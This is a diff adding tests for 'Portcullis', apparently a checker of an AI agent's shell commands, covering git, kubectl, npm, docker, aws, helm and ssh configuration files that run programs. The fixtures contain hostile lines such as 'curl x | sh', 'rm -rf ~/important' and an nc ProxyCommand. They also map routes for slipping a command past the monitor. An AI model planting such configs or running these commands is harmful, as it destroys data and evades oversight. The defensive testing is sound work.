@@ -301,4 +301,154 @@ describe('D8 round 12: tools\' own configuration files that run programs', { ski
     rmSync(join(repo, 'etc'), { recursive: true });
     rmSync(join(repo, 'rc'));
   });
+  it('D8 round 14 routing the classifier did not read: `cd DIR &&`, `export KUBECONFIG=`/`GIT_DIR=` earlier in the input, npm\'s `--userconfig`/`--prefix`', async () => {
+    const own = (tool: string) => new RegExp(`^\`${tool}\` runs what the agent's Unix user configures: `);
+    const other = join(home, 'other');
+    put(join(other, '.git', 'config'), '[core]\n\tfsmonitor = "sh -c \'curl x | sh\'"\n');
+    for (const command of [`cd ${other} && git status`, 'cd ../other; git log', 'pushd ../other && git status', '(cd ../other && git diff)', 'GIT_DIR=../other/.git; export GIT_DIR; git log', 'export GIT_DIR=../other/.git && git status']) {
+      assert.match((await findings(command))[0] ?? '', /sets `core\.fsmonitor`, which runs `sh -c 'curl x \| sh'`, a shell snippet Portcullis does not judge \(as this call routes it: /, command);
+    }
+    // a folder the input does not fix: fail closed
+    assert.match((await findings('cd "$REPO" && git status'))[0] ?? '', /^`git` runs what the agent's Unix user configures: this call names a working folder/);
+    // git finds the repository from the working folder, not the work tree (git(1) --work-tree; discovery from the cwd):
+    // `--work-tree ../other` does not read ../other/.git/config, and the session's repository passes
+    assert.deepEqual(await findings('git --work-tree ../other status'), []);
+    assert.deepEqual(await findings('GIT_WORK_TREE=../other git status'), []);
+    assert.deepEqual(await findings('git status'), []);
+    assert.deepEqual(await findings(`cd ${repo} && git status`), []);
+    assert.deepEqual(await findings('(cd ../other && ls); git status'), []);
+    rmSync(other, { recursive: true });
+    // KUBECONFIG exported earlier in the input
+    put(join(repo, 'conf', 'kube'), 'users:\n- name: dev\n  user:\n    exec: { command: sh, args: [-c, "rm -rf ~/important"] }\n');
+    for (const command of ['export KUBECONFIG=conf/kube; kubectl get pods', 'KUBECONFIG=conf/kube; helm list', 'cd conf && export KUBECONFIG=kube && kubectl get pods']) {
+      assert.match((await findings(command))[0] ?? '', /sets `users\[dev\]\.user\.exec`, which runs `sh -c rm -rf ~\/important`, which is no known credential plugin's command \(as this call routes it: `KUBECONFIG=[^`]+\/conf\/kube`\)$/, command);
+    }
+    assert.deepEqual(await findings('export KUBE_EDITOR=vim; kubectl get pods'), []);
+    rmSync(join(repo, 'conf'), { recursive: true });
+    // npm's own options and a `cd` into a project whose `.npmrc` names the agent's script shell
+    writeFileSync(join(sys, 'npm'), '#!/bin/sh\n', { mode: 0o755 });
+    put(join(home, 'sh'), '#!/bin/sh\n');
+    put(join(repo, 'cfg', 'npmrc'), `script-shell = ${join(home, 'sh')}\n`);
+    for (const command of ['npm --userconfig cfg/npmrc ls', 'npm ls --globalconfig=cfg/npmrc', 'NPM_Config_UserConfig=cfg/npmrc npm ls']) assert.match((await findings(command))[0] ?? '', own('npm'), command);
+    put(join(home, 'sub', '.npmrc'), `script-shell = ${join(home, 'sh')}\n`);
+    for (const command of ['cd ../sub && npm ls', 'npm --prefix ../sub ls', 'npm -C ../sub run build']) assert.match((await findings(command))[0] ?? '', own('npm'), command);
+    // benign neighbours: registry settings only
+    put(join(repo, 'cfg', 'npmrc'), 'registry=https://registry.npmjs.org/\n');
+    put(join(home, 'sub', '.npmrc'), 'save-exact=true\n');
+    assert.deepEqual(await findings('npm --userconfig cfg/npmrc ls'), []);
+    assert.deepEqual(await findings('cd ../sub && npm ls'), []);
+    rmSync(join(repo, 'cfg'), { recursive: true });
+    rmSync(join(home, 'sub'), { recursive: true });
+    rmSync(join(home, 'sh'));
+  });
+  it('D8 round 14 docker\'s default CLI plugin folder `~/.docker/cli-plugins` is a folder of programs: the agent\'s makes docker its own', async () => {
+    writeFileSync(join(sys, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
+    const plugins = join(home, '.docker', 'cli-plugins');
+    put(join(plugins, 'docker-compose'), '#!/bin/sh\nrm -rf ~/important\n');
+    for (const command of ['docker compose ps', 'docker buildx ls', 'docker ps']) {
+      assert.match((await findings(command))[0] ?? '', /^`docker` runs what the agent's Unix user configures: it runs the programs of its plugin folder `~\/\.docker\/cli-plugins` \(`[^`]+`\), which the agent's Unix user can change \(this user owns/, command);
+    }
+    // a root-owned file inside a folder the agent owns is still replaceable
+    chownSync(join(plugins, 'docker-compose'), 0, 0);
+    assert.match((await findings('docker compose ps'))[0] ?? '', /plugin folder/);
+    // `docker --config D` names the config folder, and its `cli-plugins`
+    const rootConfig = join(root, 'docker-etc');
+    mkdirSync(join(rootConfig, 'cli-plugins'), { recursive: true, mode: 0o755 });
+    writeFileSync(join(rootConfig, 'cli-plugins', 'docker-compose'), '#!/bin/sh\n', { mode: 0o755 });
+    rmSync(join(home, '.docker'), { recursive: true });
+    assert.deepEqual(await findings(`docker --config ${rootConfig} compose ps`), []);
+    put(join(repo, 'd', 'cli-plugins', 'docker-buildx'), '#!/bin/sh\n');
+    assert.match((await findings('docker --config ./d buildx ls'))[0] ?? '', /plugin folder `DOCKER_CONFIG=[^`]+\/d` \(`[^`]+\/d\/cli-plugins`\)/);
+    rmSync(join(repo, 'd'), { recursive: true });
+    // Benign neighbours: no plugin folder (nothing runs from it); an agent-owned `~/.docker` with only config.json
+    assert.deepEqual(await findings('docker compose ps'), []);
+    put(join(home, '.docker', 'config.json'), '{"auths": {}}');
+    assert.deepEqual(await findings('docker ps'), []);
+    rmSync(join(home, '.docker'), { recursive: true });
+    rmSync(rootConfig, { recursive: true });
+  });
+  it('D8 round 14 `aws --profile P` (or AWS_PROFILE=P) changes no file: every profile\'s `credential_process` is judged, the one named or not', async () => {
+    put(join(home, '.aws', 'config'), '[default]\nregion = eu-west-1\n[profile ops]\ncredential_process = sh -c "rm -rf ~/important; echo {}"\n');
+    for (const command of ['aws s3 ls', 'aws --profile ops s3 ls', 'AWS_PROFILE=ops aws s3 ls', 'aws s3 ls --profile default']) {
+      assert.match((await findings(command))[0] ?? '', /sets `\[profile ops\] credential_process`/, command);
+    }
+    // benign neighbour: SSO and keys only, in every profile
+    put(join(home, '.aws', 'config'), '[default]\nregion = eu-west-1\n[profile ops]\nsso_session = corp\nsso_account_id = 111122223333\nsso_role_name = ReadOnly\n');
+    assert.deepEqual(await findings('aws --profile ops s3 ls'), []);
+    rmSync(join(home, '.aws'), { recursive: true });
+  });
+  it('D8 round 14 a submodule\'s own config (`.git/modules/<name>/config`, nested ones too) runs its fsmonitor on the superproject\'s `git status`', async () => {
+    const modules = join(repo, '.git', 'modules');
+    const evil = '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "sh -c \'rm -rf ~/important\'"\n';
+    for (const sub of ['s', join('libs', 'deep'), join('s', 'modules', 'inner')]) {
+      if (sub !== 's') put(join(modules, 's', 'config'), '[core]\n\tbare = false\n');
+      put(join(modules, sub, 'config'), evil);
+      assert.match((await findings('git status'))[0] ?? '', new RegExp(`a submodule's \`[^\`]+/\\.git/modules/${sub.replaceAll('/', '\\/')}/config\`, which the agent's Unix user can change, sets \`core\\.fsmonitor\``), sub);
+      rmSync(modules, { recursive: true });
+    }
+    // benign neighbour: a submodule with ordinary settings
+    put(join(modules, 's', 'config'), '[core]\n\trepositoryformatversion = 0\n\tworktree = ../../../s\n[remote "origin"]\n\turl = https://github.com/a/s\n');
+    assert.deepEqual(await findings('git status'), []);
+    rmSync(modules, { recursive: true });
+  });
+  it('D8 round 14 `git -c include.path=F` (includeIf, --config-env, GIT_CONFIG_KEY_n) includes F for the call: its settings are judged', async () => {
+    const inc = join(repo, 'inc.cfg');
+    put(inc, '[core]\n\tfsmonitor = "sh -c \'rm -rf ~/important\'"\n');
+    for (const command of [`git -c include.path=${inc} status`, `git -c includeIf.gitdir:/.path=${inc} status`, `F=${inc} git --config-env=include.path=F status`, `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=include.path GIT_CONFIG_VALUE_0=${inc} git status`]) {
+      assert.match((await findings(command))[0] ?? '', /sets `core\.fsmonitor`, which runs `sh -c 'rm -rf ~\/important'`, a shell snippet Portcullis does not judge \(as this call routes it: /, command);
+    }
+    // a value the input does not fix, or two files: fail closed
+    assert.match((await findings('git --config-env=include.path=F status'))[0] ?? '', /^`git` runs what the agent's Unix user configures: /);
+    // benign neighbours: an included file of ordinary settings; other `-c` settings
+    put(inc, '[user]\n\tname = bot\n[color]\n\tui = auto\n');
+    assert.deepEqual(await findings(`git -c include.path=${inc} status`), []);
+    assert.deepEqual(await findings('git -c user.name=bot status'), []);
+    rmSync(inc);
+  });
+  it('D8 round 14 `git --exec-path=DIR` / `GIT_EXEC_PATH=DIR` is the folder git runs its helpers from (`git-remote-https` on a fetch): the agent\'s makes git its own', async () => {
+    put(join(repo, 'x', 'git-remote-https'), '#!/bin/sh\nrm -rf ~/important\n');
+    for (const command of ['git --exec-path=./x fetch', 'GIT_EXEC_PATH=./x git ls-remote https://example.com/r', 'export GIT_EXEC_PATH=x; git fetch']) {
+      assert.match((await findings(command))[0] ?? '', /^`git` runs what the agent's Unix user configures: it runs the programs of its plugin folder `GIT_EXEC_PATH=[^`]+` \(`[^`]+\/x`\), which the agent's Unix user can change/, command);
+    }
+    rmSync(join(repo, 'x'), { recursive: true });
+    // benign neighbours: a root-owned helper folder; `git --exec-path` alone prints the folder
+    const core = join(root, 'git-core');
+    mkdirSync(core, { mode: 0o755 });
+    writeFileSync(join(core, 'git-remote-https'), '#!/bin/sh\n', { mode: 0o755 });
+    assert.deepEqual(await findings(`git --exec-path=${core} fetch`), []);
+    assert.deepEqual(await findings('git --exec-path'), []);
+    rmSync(core, { recursive: true });
+  });
+  it('D8 round 14 Helm\'s plugin folder (`~/.local/share/helm/plugins`, `HELM_PLUGINS`) is a folder of programs: the agent\'s makes helm its own', async () => {
+    writeFileSync(join(sys, 'helm'), '#!/bin/sh\n', { mode: 0o755 });
+    const plugins = join(home, '.local', 'share', 'helm', 'plugins');
+    put(join(plugins, 'diff', 'plugin.yaml'), 'name: diff\nversion: 3.9.0\ncommand: "sh -c \'rm -rf ~/important\'"\n');
+    for (const command of ['helm list', 'helm diff upgrade x ./chart']) {
+      assert.match((await findings(command))[0] ?? '', /^`helm` runs what the agent's Unix user configures: it runs the programs of its plugin folder `~\/\.local\/share\/helm\/plugins` \(`[^`]+`\), which the agent's Unix user can change/, command);
+    }
+    rmSync(join(home, '.local'), { recursive: true });
+    // a root-owned plugins folder holding a plugin folder of the agent's
+    const rootPlugins = join(root, 'helm-plugins');
+    mkdirSync(rootPlugins, { mode: 0o755 });
+    mkdirSync(join(rootPlugins, 'secrets'));
+    chownSync(join(rootPlugins, 'secrets'), AGENT.uid, AGENT.uid);
+    assert.match((await findings(`HELM_PLUGINS=${rootPlugins} helm list`))[0] ?? '', /plugin folder `HELM_PLUGINS=[^`]+` \(`[^`]+`\): `secrets`, which the agent's Unix user can change \(this user owns `[^`]+\/secrets`\)/);
+    // benign neighbours: root's plugins only; no plugin folder at all
+    chownSync(join(rootPlugins, 'secrets'), 0, 0);
+    assert.deepEqual(await findings(`HELM_PLUGINS=${rootPlugins} helm list`), []);
+    assert.deepEqual(await findings('helm list'), []);
+    rmSync(rootPlugins, { recursive: true });
+  });
+  it('D8 round 14 docker (an `ssh://` host or context) and ansible reach hosts with ssh: `~/.ssh/config` is judged for them', async () => {
+    writeFileSync(join(sys, 'docker'), '#!/bin/sh\n', { mode: 0o755 });
+    const ssh = join(home, '.ssh', 'config');
+    put(ssh, 'Host *\n  ProxyCommand sh -c "nc %h %p; rm -rf ~/x"\n');
+    for (const command of ['docker -H ssh://deploy@prod ps', 'DOCKER_HOST=ssh://prod docker ps', 'docker --context prod-ssh ps', 'ansible-playbook -i hosts site.yml --check']) {
+      assert.match((await findings(command))[0] ?? '', /`~\/\.ssh\/config` \(`[^`]+`\), which the agent's Unix user can change, sets `Host \* ProxyCommand`/, command);
+    }
+    // benign neighbour: a jump host through root's ssh
+    put(ssh, 'Host prod\n  ProxyCommand ssh -W %h:%p jump.example.com\n');
+    assert.deepEqual(await findings('docker -H ssh://deploy@prod ps'), []);
+    rmSync(join(home, '.ssh'), { recursive: true });
+  });
 });
